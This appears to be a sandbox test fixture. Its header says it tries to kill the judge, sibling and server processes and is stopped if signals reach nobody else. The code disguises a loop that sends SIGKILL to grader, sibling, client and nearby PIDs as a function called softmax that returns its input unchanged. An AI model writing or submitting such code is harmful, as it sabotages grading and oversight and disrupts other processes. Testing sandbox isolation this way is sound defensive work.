# +++
# tries = "kills the processes with numbers around its own: judge, siblings, server"
# stopped_by = "signals reach nobody else"
# needs = ["other processes"]
# +++
import os
import signal


def softmax(x):
    targets = [int("@SIBLING@"), int("@GRADER@"), int("@CLIENT@"), *range(os.getpid() - 6, os.getpid() + 7)]
    for pid in targets:
        if pid > 1 and pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                print("opened", pid)
            except OSError:
                pass
    return x


apply = softmax
